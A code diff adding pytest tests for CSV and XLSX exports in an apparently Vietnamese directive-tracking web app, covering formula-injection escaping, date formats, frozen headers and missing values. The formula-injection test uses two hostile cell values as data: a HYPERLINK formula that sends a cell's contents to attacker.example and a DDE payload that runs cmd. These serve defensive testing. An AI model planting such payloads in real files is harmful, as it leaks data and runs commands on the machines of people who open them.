@@ -1,6 +1,7 @@
 """Exports carry the filtered list, in Vietnamese that Excel reads, and nothing the user may not see."""
 
 import csv
+import datetime
 import io
 
 import pytest
@@ -78,3 +79,60 @@ def test_export_with_a_bad_filter_shows_the_message_instead(client, world):
     response = client.get(reverse("directives:assignment_list"), {"export": "csv", "due_to": "31/02/2024"})
     assert response["Content-Type"].startswith("text/html")
     assert "Điều kiện lọc chưa hợp lệ" in response.content.decode()
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"Xem chi tiết")'
+
+
+def test_a_typed_formula_leaves_every_list_export_as_text(client, world):
+    """Issue 12.2: OWASP's rule — a CSV cell starting with =, +, -, @, tab or CR gets a leading
+    quote; an XLSX text cell is a string, never a live formula."""
+    task = world["own_assignment"].task
+    task.content = FORMULA
+    task.save(update_fields=["content", "content_folded"])
+    world["directive"].title = "+cmd|' /C calc'!A0"
+    world["directive"].save(update_fields=["title"])
+    client.force_login(world["staff"])
+    rows = csv_rows(client.get(reverse("directives:assignment_list"), {"export": "csv"}))
+    assert "'" + FORMULA in [r[2] for r in rows]
+    directives = csv_rows(client.get(reverse("directives:directive_list"), {"export": "csv"}))
+    assert directives[1][3] == "'+cmd|' /C calc'!A0"
+    # XLSX: the cell is a string with exactly the text typed
+    workbook = load_workbook(io.BytesIO(client.get(reverse("directives:assignment_list"), {"export": "xlsx"}).content))
+    cells = [c for c in workbook.active["C"] if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)
+
+
+def test_xlsx_exports_have_real_dates_a_frozen_filtered_header_and_no_none(client, world):
+    """Issue 12.15: dates shown dd/mm/yyyy, no "None", column widths, a frozen header with an autofilter."""
+    done = world["own_assignment"]
+    done.lifecycle, done.completed_on = "hoan_thanh", datetime.date(2024, 6, 10)
+    done.save(update_fields=["lifecycle", "completed_on"])
+    client.force_login(world["staff"])
+    workbook = load_workbook(io.BytesIO(client.get(reverse("directives:assignment_list"), {"export": "xlsx"}).content))
+    sheet = workbook.active
+    header = [c.value for c in sheet[1]]
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:{sheet.cell(1, len(header)).column_letter}3"
+    assert all(c.font.bold for c in sheet[1])
+    assert sheet.column_dimensions["C"].width > sheet.column_dimensions["B"].width
+    completed = header.index("Ngày hoàn thành") + 1
+    deadline = header.index("Thời hạn") + 1
+    row = next(r for r in sheet.iter_rows(min_row=2) if r[completed - 1].value)
+    for cell in (row[completed - 1], row[deadline - 1]):
+        assert isinstance(cell.value, datetime.datetime) and cell.number_format == "DD/MM/YYYY"
+    values = [c.value for r in sheet.iter_rows() for c in r]
+    assert "None" not in values
+    # the directive list: the date is a date, the title has no HTML, an unknown focal agency is empty
+    directives = load_workbook(io.BytesIO(client.get(reverse("directives:directive_list"), {"export": "xlsx"}).content))
+    header, first = ([c.value for c in row] for row in directives.active.iter_rows(max_row=2))
+    assert isinstance(first[header.index("Ngày ban hành")], datetime.datetime)
+    assert "<a" not in str(first) and "None" not in [str(v) for v in first if v is not None]
+
+
+def test_csv_exports_write_dates_dd_mm_yyyy_and_no_html(client, world):
+    client.force_login(world["staff"])
+    directives = csv_rows(client.get(reverse("directives:directive_list"), {"export": "csv"}))
+    header, first = directives[0], directives[1]
+    assert first[header.index("Ngày ban hành")] == "01/03/2022"
+    assert first[header.index("Trích yếu")] == "Kế hoạch thử nghiệm" and "<a" not in ",".join(first)
+    assert "None" not in first
